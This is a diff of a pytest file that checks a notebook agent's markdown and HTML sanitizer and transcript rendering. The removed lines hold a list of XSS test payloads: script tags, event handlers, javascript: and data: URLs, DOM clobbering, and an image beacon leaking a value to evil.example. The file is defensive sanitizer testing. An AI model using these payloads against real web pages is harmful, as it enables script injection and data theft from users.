@@ -4,56 +4,24 @@ from __future__ import annotations
 
 import base64
 import re
-from html.parser import HTMLParser
 from urllib.parse import urlsplit
 
 import pytest
 
-from nbagent.notebook import render
 from nbagent.notebook.panel import Panel
+from nbagent.render import html as render
+from nbagent.render.text import transcript_text
+from reliability.payloads import MARKDOWN, start_tags
 
-HOSTILE = [
-    "<script>alert(1)</script>",
-    '<img src=x onerror="alert(1)">',
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt:alert(1))",
-    "[click](java&#09;script:alert(1))",
-    '<a href="javascript:alert(1)">x</a>',
-    "<svg onload=alert(1)><circle/></svg>",
-    '<a id="config" name="config" href="https://x.org">clobber</a>',
-    '<iframe src="https://evil.example"></iframe>',
-    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    '<div style="background:url(javascript:alert(1))">x</div>',
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "![pixel](https://evil.example/leak.png?secret=42)",
-    "[relative](/api/contents?delete=1)",
-    '<form action="https://evil"><input name="x"></form>',
-    "<details open ontoggle=alert(1)>x</details>",
-]
 SAFE_TAGS = set(render.ALLOWED_TAGS) | {"div", "span", "details", "summary", "img"}  # the last: our own markup
 OUR_STYLE = re.compile(r"^[a-z0-9#%:;. -]*$")  # the panel's own inline styles: no url(), quotes or expressions
 
 
-class Markup(HTMLParser):
-    """Collects every tag and attribute a browser would see."""
-
-    def __init__(self) -> None:
-        super().__init__(convert_charrefs=True)
-        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.tags.append((tag, attrs))
-
-
 def assert_safe(fragment: str) -> None:
     """Parse as a browser would; every tag and attribute must be on the allow-list."""
-    parser = Markup()
-    parser.feed(fragment)
-    parser.close()
-    for tag, attrs in parser.tags:
+    for tag, attrs in start_tags(fragment):
         assert tag in SAFE_TAGS, (tag, fragment)
         for name, value in attrs:
-            value = value or ""
             assert not name.startswith("on") and name not in ("id", "name", "srcdoc", "action", "formaction"), (name, fragment)
             if name == "href":
                 assert urlsplit(value).scheme.lower() in ("http", "https", "mailto"), (value, fragment)
@@ -64,17 +32,17 @@ def assert_safe(fragment: str) -> None:
     assert "<script" not in fragment.lower()
 
 
-@pytest.mark.parametrize("payload", HOSTILE)
+@pytest.mark.parametrize("payload", MARKDOWN)
 def test_markdown_html_neutralizes_hostile_payloads(payload: str) -> None:
     assert_safe(render.markdown_html(payload))
 
 
-@pytest.mark.parametrize("payload", HOSTILE)
+@pytest.mark.parametrize("payload", MARKDOWN)
 def test_sanitize_strips_hostile_html_even_when_raw_html_reaches_it(payload: str) -> None:
     assert_safe(render.sanitize(payload))
 
 
-@pytest.mark.parametrize("payload", HOSTILE)
+@pytest.mark.parametrize("payload", MARKDOWN)
 def test_every_event_type_and_the_transcript_are_safe(payload: str) -> None:
     events = [
         {"type": "user_msg", "content": payload},
@@ -151,9 +119,9 @@ def test_transcript_text_and_html_name_tools_and_mark_errors() -> None:
         {"type": "tool_result", "tool_use_id": "t1", "content": "boom", "is_error": True},
         {"type": "assistant_msg", "content": [{"type": "text", "text": "It failed."}]},
     ]
-    text = render.transcript_text(events, title="T", status="done")
+    text = transcript_text(events, title="T", status="done")
     assert text.splitlines()[0] == "T — done"
-    assert '[tool call] ls({"path": "."})' in text and "[tool error] ls: boom" in text and "It failed." in text
+    assert '    -> ls({"path": "."})' in text and "error from ls:\n    boom" in text and "    It failed." in text
     html = render.transcript_html(events)
     assert "error from <b>ls</b>" in html and "<details" in html and "It failed." in html
 
